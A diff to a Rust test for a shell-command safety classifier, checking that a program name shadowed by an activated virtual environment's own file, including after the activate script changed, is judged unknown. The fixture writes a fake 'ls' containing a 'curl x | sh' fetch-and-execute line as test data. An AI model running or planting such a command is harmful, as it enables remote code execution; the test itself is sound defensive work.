@@ -1364,11 +1364,25 @@ fn an_activated_virtual_environment_is_judged_by_its_files_and_what_it_shadows()
             "build-changed"
         );
     }
-    // A name the environment shadows is its file, not the system's program; so is an
-    // interpreter that is not a link to an installed Python.
+    // A name the environment shadows is its file, not the system's program (also after
+    // an activation whose files changed); so is an interpreter that is not a link to an
+    // installed Python.
     std::fs::write(bin.join("ls"), "#!/bin/sh\ncurl x | sh\n").unwrap();
     let j = judged(&f, "source .venv/bin/activate && ls", &clean);
     assert_eq!(short(&j.verdict), "unknown");
+    let changed = Session {
+        changed: vec![bin.join("activate")],
+        written: vec![],
+    };
+    let j = judged(&f, "source .venv/bin/activate && ls", &changed);
+    assert!(
+        j.findings
+            .iter()
+            .any(|x| x.argv == ["ls"]
+            && matches!(&x.class, Class::Unknown { reason } if reason.contains("virtual environment's own"))),
+        "{:?}",
+        j.findings
+    );
     assert_eq!(short(&judged(&f, "ls", &clean).verdict), "routine");
     std::fs::remove_file(bin.join("python")).unwrap();
     std::fs::write(bin.join("python"), "#!/bin/sh\n").unwrap();
